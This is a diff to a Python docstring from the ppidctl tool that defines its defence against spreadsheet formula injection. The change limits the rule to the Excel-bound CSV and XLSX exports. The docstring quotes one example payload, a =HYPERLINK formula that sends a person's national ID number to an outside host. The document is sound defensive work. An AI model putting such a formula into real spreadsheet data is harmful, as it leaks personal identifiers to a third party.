@@ -1,5 +1,7 @@
-"""Formula injection (OWASP "CSV injection"): the one rule every CSV and XLSX that ppidctl
-writes follows for text a spreadsheet would run as a formula.
+"""Formula injection (OWASP "CSV injection"): the one rule every file ppidctl makes for Excel
+(``ekspor``, ``laporan``'s CSV and XLSX) follows for text a spreadsheet would run as a formula.
+The registers themselves and the listings' ``--format csv`` keep values as stored (they are read
+back, by ppidctl and by scripts).
 
 A text cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return) is run as a
 formula by Excel or LibreOffice: ``=HYPERLINK("http://…?"&D2)`` typed as a name sends the NIK
